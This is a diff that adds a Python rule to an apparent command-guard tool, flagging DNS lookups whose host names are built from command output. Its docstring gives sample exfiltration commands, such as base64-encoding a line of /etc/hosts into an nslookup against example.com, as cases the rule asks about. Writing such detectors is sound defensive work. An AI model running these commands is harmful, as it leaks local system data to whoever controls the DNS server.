@@ -1,0 +1,35 @@
+"""A quiet way out: names that carry data to a DNS server."""
+
+from __future__ import annotations
+
+import re
+
+from snaphook.providers.guard.facts import Call, Origin, Span
+from snaphook.providers.guard.judgement import Answer
+from snaphook.providers.guard.rules.rule import Rule, Scene
+
+
+def objects_to(call: Call, _scene: Scene) -> Span | None:
+    """Point at a host name made of what another command prints.
+
+    Asks: dig $(whoami).example.com
+    Asks: nslookup "$(head -1 /etc/hosts | base64).example.com"
+    Allows: dig example.com
+    Allows: dig +short $(hostname)
+    Allows: ping -c1 $HOST
+    """
+    for arg in call.args:
+        if arg.origin & Origin.SUBSTITUTION and re.search(r"\.[a-z]{2,}\.?$", arg.value):
+            return arg.span
+    return None
+
+
+RULE = Rule(
+    id="leaks.names",
+    answer=Answer.ASK,
+    says="asks a DNS server for a name made of what a command prints",
+    why="whoever runs that server reads it",
+    instead="Look up a name you know.",
+    programs=("dig", "nslookup", "host", "drill", "ping", "kdig", "resolvectl"),
+    objects_to=objects_to,
+)
